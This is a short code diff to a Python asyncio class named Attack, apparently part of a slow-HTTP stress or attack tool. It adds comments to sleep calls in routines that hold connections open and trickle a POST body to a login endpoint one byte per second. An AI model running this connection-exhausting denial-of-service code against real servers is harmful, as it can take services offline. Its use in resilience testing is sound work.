@@ -64,7 +64,7 @@ class Attack:
                     async with asyncio.timeout(max(0, self._until - time.monotonic())):
                         await reader.read()
                 writer.transport.abort()
-            await asyncio.sleep(random.uniform(0, 1))
+            await asyncio.sleep(random.uniform(0, 1))  # Time itself: the attacker's pace, as below
 
     async def slow_body(self) -> None:
         head = b"POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 16000\r\n\r\n"
@@ -76,7 +76,7 @@ class Attack:
                 for _ in range(900):
                     writer.write(b" ")
                     await writer.drain()
-                    await asyncio.sleep(1)
+                    await asyncio.sleep(1)  # Time itself: a byte a second
                     if not self._goes_on:
                         break
                 writer.transport.abort()
